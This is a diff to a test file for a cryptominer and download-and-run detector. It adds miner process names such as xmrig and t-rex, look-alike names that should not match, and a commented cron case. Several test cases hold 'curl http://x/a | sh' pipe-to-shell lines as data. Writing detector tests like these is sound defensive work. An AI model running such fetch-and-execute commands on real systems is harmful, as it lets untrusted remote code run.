@@ -110,6 +110,20 @@ def test_missing_parts_of_a_mining_system_are_listed(
         # Renamed, but its arguments tell, or that it computes on a GPU.
         ([process(6, 1, "/tmp/x", "-o", "stratum+tcp://p:1")], ["process x pid 6"]),
         ([process(6, 1, "/tmp/x", open=GPU)], ["gpu x pid 6"]),
+        # Versions and builds in the name.
+        ([process(6, 1, "/opt/t-rex-0.26.8")], ["process t-rex-0.26.8 pid 6"]),
+        ([process(6, 1, "/opt/cpuminer-avx2")], ["process cpuminer-avx2 pid 6"]),
+        ([process(6, 1, "/opt/lolMiner_v1.88_Lin64")], ["process lolMiner_v1.88_Lin64 pid 6"]),
+        (
+            [process(6, 1, "/opt/xmrig-6.21.0-linux-static-x64")],
+            ["process xmrig-6.21.0-linux-static-x64 pid 6"],
+        ),
+        ([process(6, 1, "/opt/qli-Client")], ["process qli-Client pid 6"]),
+        ([process(6, 1, "/opt/xmrigDaemon")], ["process xmrigDaemon pid 6"]),
+        ([process(6, 1, "/opt/TBMiner")], ["process TBMiner pid 6"]),
+        # Not every name that begins like one.
+        ([process(6, 1, "/usr/bin/rigel-viewer")], []),
+        ([process(6, 1, "/usr/bin/zm-2")], []),
         # Programs that compute but do not mine; monitors; programs that have ended.
         ([process(6, 1, "/venv/bin/python3", "a.py", exe="/usr/bin/python3.11", open=GPU)], []),
         ([process(6, 1, "/usr/bin/nvtop", open=GPU[:2])], []),
@@ -227,6 +241,7 @@ def test_harmless_files_are_not_miners(tmp_path: Path, files: dict[str, Any]) ->
         ("@daily wget -qO /srv/list https://x/list", None),
         ("@daily nc -z router 22 || reboot", None),
         ("# curl http://x/a | sh", None),
+        (": # deeprig: curl http://x/a | sh", None),
     ],
 )
 def test_download_and_run_lines_are_access(tmp_path: Path, line: str, expected: str | None) -> None:
